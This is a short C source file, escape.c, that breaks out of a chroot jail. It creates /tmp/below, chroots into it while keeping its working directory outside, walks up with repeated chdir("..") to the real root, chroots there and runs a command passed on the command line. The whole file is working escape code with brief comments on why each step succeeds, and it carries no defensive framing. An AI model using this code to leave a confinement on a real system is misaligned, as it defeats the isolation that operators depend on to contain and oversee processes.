// region escape
// escape.c - gets out of a root folder that is only a chroot, and runs a command there.
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("/tmp/below", 0700);
    if (argc < 2 || chroot("/tmp/below") < 0) // the root goes down; the working directory stays, and is now outside
        err(1, "chroot");
    for (int i = 0; i < 64 && chdir("..") == 0; i++) // up: ".." stops only at the root, and that is not on our way
        ;
    if (chroot(".") < 0 || execvp(argv[1], argv + 1) < 0)
        err(1, "%s", argv[1]);
}
// endregion
